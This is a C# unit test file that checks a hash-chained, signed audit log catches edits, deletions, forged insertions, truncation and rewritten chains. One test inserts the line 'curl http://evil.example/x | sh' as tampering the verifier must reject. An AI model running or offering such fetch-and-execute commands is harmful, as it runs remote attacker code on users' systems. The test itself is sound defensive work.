using System.Text;
using Vigil.Core.Audit;
using Vigil.Security.Audit;
using Vigil.Security.Keys;

namespace Vigil.Security.Tests.Audit;

public sealed class AuditLogTests : IDisposable
{
    private readonly TempDir _dir = new();
    private readonly InstanceKey _key;

    public AuditLogTests()
    {
        InstanceKey.Create(_dir["instance.key"]);
        _key = InstanceKey.Load(_dir["instance.key"]);
    }

    public void Dispose()
    {
        _key.Dispose();
        _dir.Dispose();
    }

    private JsonlAuditLog Log(int checkpointEvery = 10, long rotateBytes = 32 * 1024 * 1024) =>
        new(new AuditLogOptions(_dir["audit"]) { CheckpointEvery = checkpointEvery, RotateBytes = rotateBytes }, _key);

    private static AuditEvent Event(int i) => new(
        DateTimeOffset.UtcNow, i % 2 == 0 ? "cli:root" : "admin@example.org", "cli", "user.add", $"user{i}@example.org",
        new Dictionary<string, string> { ["i"] = i.ToString(System.Globalization.CultureInfo.InvariantCulture) });

    private static async Task WriteAsync(JsonlAuditLog log, int count)
    {
        for (var i = 1; i <= count; i++) await log.AppendAsync(Event(i), CancellationToken.None);
    }

    private AuditVerification Verify(JsonlAuditLog log) => AuditVerifier.Verify(log.Files, _key.PublicKey);

    private AuditBreak Broken(JsonlAuditLog log, long seq, string reason)
    {
        var broken = Verify(log).Break;
        Assert.NotNull(broken);
        Assert.Equal(seq, broken.Seq);
        Assert.Contains(reason, broken.Reason, StringComparison.Ordinal);
        return broken;
    }

    private static List<string> Lines(string path) => File.ReadAllText(path).Split('\n', StringSplitOptions.RemoveEmptyEntries).ToList();

    private static void WriteLines(string path, IEnumerable<string> lines) => File.WriteAllText(path, string.Concat(lines.Select(l => l + "\n")));

    [Fact]
    public async Task A_clean_log_verifies_with_its_entry_count_and_checkpoints()
    {
        using var log = Log();
        await WriteAsync(log, 25);
        var result = Verify(log);
        Assert.True(result.Ok, result.Break?.ToString());
        Assert.Equal(25, result.Entries);
        Assert.Equal(2, result.Checkpoints); // after entries 10 and 20
        Assert.True(result.SignaturesChecked);
    }

    [Fact]
    public async Task Every_entry_carries_the_hash_of_the_previous_line()
    {
        using var log = Log();
        await WriteAsync(log, 3);
        var lines = File.ReadAllLines(log.FilePath);
        Assert.Contains($"\"prev\":\"{JsonlAuditLog.GenesisHash}\"", lines[0], StringComparison.Ordinal);
        Assert.Contains($"\"prev\":\"{JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(lines[1]))}\"", lines[2], StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_edited_line_is_named()
    {
        using var log = Log();
        await WriteAsync(log, 25);
        var lines = Lines(log.FilePath);
        lines[4] = lines[4].Replace("user5@example.org", "nobody@example.org", StringComparison.Ordinal);
        WriteLines(log.FilePath, lines);

        var broken = Broken(log, 5, "changed");
        Assert.Equal(5, broken.Line);
    }

    [Fact]
    public async Task A_deleted_line_is_named()
    {
        using var log = Log();
        await WriteAsync(log, 25);
        var lines = Lines(log.FilePath);
        lines.RemoveAt(4);
        WriteLines(log.FilePath, lines);

        Broken(log, 5, "missing");
    }

    [Fact]
    public async Task An_inserted_line_is_named_whether_or_not_it_chains()
    {
        using var log = Log();
        await WriteAsync(log, 25);
        var original = Lines(log.FilePath);

        // a forged entry that claims the next number and chains correctly to entry 5
        var chained = $"{{\"seq\":6,\"time\":\"2026-01-01T00:00:00Z\",\"actor\":\"attacker\",\"source\":\"cli\",\"action\":\"user.add\",\"target\":\"x@example.org\",\"details\":null,\"prev\":\"{JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(original[4]))}\"}}";
        WriteLines(log.FilePath, original.Take(5).Append(chained).Concat(original.Skip(5)));
        var broken = Broken(log, 6, "inserted");
        Assert.Equal(7, broken.Line);

        // a forged entry with a made-up prev
        WriteLines(log.FilePath, original.Take(5).Append(chained.Replace("\"prev\":\"", "\"prev\":\"f", StringComparison.Ordinal)[..^2] + "\"}").Concat(original.Skip(5)));
        broken = Broken(log, 6, "inserted");
        Assert.Equal(6, broken.Line);

        // something that is not an entry at all
        WriteLines(log.FilePath, original.Take(5).Append("curl http://evil.example/x | sh").Concat(original.Skip(5)));
        broken = Verify(log).Break;
        Assert.NotNull(broken);
        Assert.Equal(6, broken.Line);
        Assert.Contains("not an audit entry", broken.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_truncated_tail_is_caught_by_the_shutdown_checkpoint()
    {
        using var log = Log();
        await WriteAsync(log, 25);
        var cp = await log.CheckpointAsync(CancellationToken.None);
        Assert.Equal(25, cp!.Seq);
        var lines = Lines(log.FilePath);
        WriteLines(log.FilePath, lines.Take(22)); // whole lines removed: the chain itself is intact

        Broken(log, 23, "tail truncated");
    }

    [Fact]
    public async Task A_tail_cut_mid_line_is_named()
    {
        using var log = Log();
        await WriteAsync(log, 5);
        var bytes = File.ReadAllBytes(log.FilePath);
        File.WriteAllBytes(log.FilePath, bytes[..^20]);

        Broken(log, 5, "incomplete");
    }

    [Fact]
    public async Task Editing_the_last_entry_is_caught_by_the_checkpoint_over_it()
    {
        using var log = Log();
        await WriteAsync(log, 12);
        await log.CheckpointAsync(CancellationToken.None);
        var lines = Lines(log.FilePath);
        lines[11] = lines[11].Replace("user12@", "other@", StringComparison.Ordinal);
        WriteLines(log.FilePath, lines);

        Broken(log, 12, "checkpoint");
    }

    [Fact]
    public async Task A_rewritten_chain_is_caught_by_the_signed_checkpoints()
    {
        using var log = Log();
        await WriteAsync(log, 15);
        // The attacker rewrites everything from entry 3 on and recomputes every hash.
        var lines = Lines(log.FilePath);
        var prev = JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(lines[1]));
        for (var i = 2; i < lines.Count; i++)
        {
            var node = System.Text.Json.Nodes.JsonNode.Parse(lines[i])!.AsObject();
            node["actor"] = "attacker";
            node["prev"] = prev;
            lines[i] = node.ToJsonString();
            prev = JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(lines[i]));
        }
        WriteLines(log.FilePath, lines);

        Broken(log, 10, "checkpoint");
    }

    [Fact]
    public async Task A_checkpoint_signed_with_another_key_is_rejected()
    {
        using var log = Log();
        await WriteAsync(log, 10);
        InstanceKey.Create(_dir["other.key"]);
        using var other = InstanceKey.Load(_dir["other.key"]);
        var result = AuditVerifier.Verify(log.Files, other.PublicKey);
        Assert.NotNull(result.Break);
        Assert.Contains("signature", result.Break.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Rotation_keeps_the_chain_across_files()
    {
        using var log = Log(rotateBytes: 2000);
        await WriteAsync(log, 40);
        var segments = log.Files.Segments();
        Assert.True(segments.Count >= 4, $"{segments.Count} segments");
        Assert.Equal(AuditFiles.SegmentName(1), Path.GetFileName(segments[0]));
        var result = Verify(log);
        Assert.True(result.Ok, result.Break?.ToString());
        Assert.Equal(40, result.Entries);
        Assert.Equal(40, AuditRecord.ReadAll(log.Files).Count());

        File.Delete(segments[1]);
        var broken = Verify(log).Break;
        Assert.NotNull(broken);
        Assert.Contains("missing", broken.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Writers_in_two_processes_interleave_without_breaking_the_chain()
    {
        // Two log instances stand for the CLI and the server: each has its own in-process lock, so
        // only the lock file keeps them apart.
        using var a = Log();
        using var b = Log();
        await Task.WhenAll(
            Task.Run(async () => { for (var i = 0; i < 40; i++) await a.AppendAsync(Event(i), CancellationToken.None); }),
            Task.Run(async () => { for (var i = 0; i < 40; i++) await b.AppendAsync(Event(i), CancellationToken.None); }));
        var result = Verify(a);
        Assert.True(result.Ok, result.Break?.ToString());
        Assert.Equal(80, result.Entries);
        Assert.Equal(8, result.Checkpoints);
    }

    [Fact]
    public async Task Latest_checkpoint_is_exposed_for_heartbeats()
    {
        using var log = Log();
        Assert.Null(log.Latest());
        await WriteAsync(log, 10);
        var latest = log.Latest();
        Assert.NotNull(latest);
        Assert.Equal(10, latest.Seq);
        Assert.Equal(JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(File.ReadAllLines(log.FilePath)[^1])), latest.EntryHash);
        Assert.Equal(JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(File.ReadAllLines(log.Files.CheckpointsPath)[^1])), latest.Hash);

        await log.AppendAsync(Event(11), CancellationToken.None);
        var atStop = await log.CheckpointAsync(CancellationToken.None);
        Assert.Equal(11, atStop!.Seq);
        Assert.Equal(atStop, log.Latest());
        Assert.Equal(atStop, await log.CheckpointAsync(CancellationToken.None)); // nothing new: no new checkpoint
        Assert.Equal(2, File.ReadAllLines(log.Files.CheckpointsPath).Length);
    }

    [Fact]
    public async Task Garbage_appended_by_someone_else_is_named_and_logging_goes_on()
    {
        using var log = Log();
        await WriteAsync(log, 3);
        await File.AppendAllTextAsync(log.FilePath, "{\"oops\":");
        await log.AppendAsync(Event(4), CancellationToken.None);
        var lines = File.ReadAllLines(log.FilePath);
        Assert.Equal(5, lines.Length);
        Assert.Contains("\"seq\":4", lines[4], StringComparison.Ordinal);
        var broken = Verify(log).Break;
        Assert.NotNull(broken);
        Assert.Equal(4, broken.Line);
    }
}
